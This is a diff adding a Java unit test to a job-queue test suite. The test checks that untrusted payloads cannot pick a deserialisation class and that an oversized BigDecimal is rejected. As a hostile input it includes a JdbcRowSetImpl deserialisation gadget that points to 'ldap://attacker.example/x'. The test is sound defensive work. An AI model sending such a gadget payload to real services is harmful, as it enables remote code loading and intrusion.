@@ -1301,6 +1301,33 @@ class InProcessWorkerTest {
         assertThat(dead.attempt()).isEqualTo(1);
     }
 
+    record Untyped(Object data, Map<String, Object> meta, java.math.BigDecimal amount) {
+    }
+
+    @Test
+    @DisplayName("a payload cannot choose a class: '@class' in an Object or Map field binds to a map, and a "
+            + "100 000-digit number for a BigDecimal is refused at once, before any parsing of its digits")
+    void untrustedPayloadsChooseNoClassAndAreBounded() {
+        JobQueue jobs = queue(memoryProvider(Map.of()), 1, Duration.ofSeconds(5));
+        var bound = new java.util.concurrent.CopyOnWriteArrayList<Untyped>();
+        jobs.registerJobHandler("untyped", Untyped.class, (job, ctx) -> bound.add(job.payload()));
+        jobs.start();
+        Map<String, Object> gadget = Map.of("@class", "com.sun.rowset.JdbcRowSetImpl",
+                "dataSourceName", "ldap://attacker.example/x", "autoCommit", true);
+        jobs.enqueue("untyped", Map.of("data", gadget, "meta", Map.of("x", gadget), "amount", "1.5"));
+        String huge = jobs.enqueue("untyped", Map.of("amount", new java.math.BigDecimal("9".repeat(100_000))));
+
+        JobEvent.Dead dead = events.awaitCount(JobEvent.Dead.class, 1).get(0);
+        events.awaitCount(JobEvent.Completed.class, 1);
+        assertThat(bound).singleElement().satisfies(payload -> {
+            assertThat(payload.data()).isInstanceOf(Map.class).isEqualTo(gadget);
+            assertThat(payload.meta().get("x")).isInstanceOf(Map.class).isEqualTo(gadget);
+        });
+        assertThat(dead.jobId()).isEqualTo(huge);
+        assertThat(dead.error()).contains("Number value length (100000) exceeds the maximum allowed (1000")
+                .hasSizeLessThan(2000);
+    }
+
     record Line(String sku, int quantity) {
     }
 
